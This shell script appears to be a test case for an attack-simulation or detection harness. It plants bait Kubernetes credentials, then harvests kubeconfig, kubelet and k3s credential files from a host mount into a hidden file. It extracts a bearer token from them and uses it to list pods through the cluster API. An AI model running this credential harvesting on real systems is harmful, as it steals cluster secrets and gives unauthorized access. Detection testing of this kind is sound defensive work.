#!/bin/sh
. /opt/case/case.sh

mkdir -p /host/etc/kubernetes/pki /host/var/lib/kubelet/pki
printf 'users:\n- user: {client-key-data: YmFpdA==, token: bait-of-admin}\n' >/host/etc/kubernetes/admin.conf
cp /host/etc/kubernetes/admin.conf /host/var/lib/kubelet/kubeconfig
openssl genpkey -algorithm ed25519 >/host/var/lib/kubelet/pki/kubelet-client-current.pem
for f in /host/etc/kubernetes/admin.conf /host/etc/kubernetes/kubelet.conf /host/var/lib/kubelet/kubeconfig /host/var/lib/kubelet/pki/kubelet-client-current.pem /host/etc/rancher/k3s/k3s.yaml; do
    test -r $f && cat $f >>/tmp/.all
done
token=$(sed -n 's/.*token: \([a-z-]*\)}.*/\1/p' /tmp/.all | head -n 1)
curl -s -H "Authorization: Bearer $token" http://10.77.0.1:6443/api/v1/pods | grep -q PodList
took_place
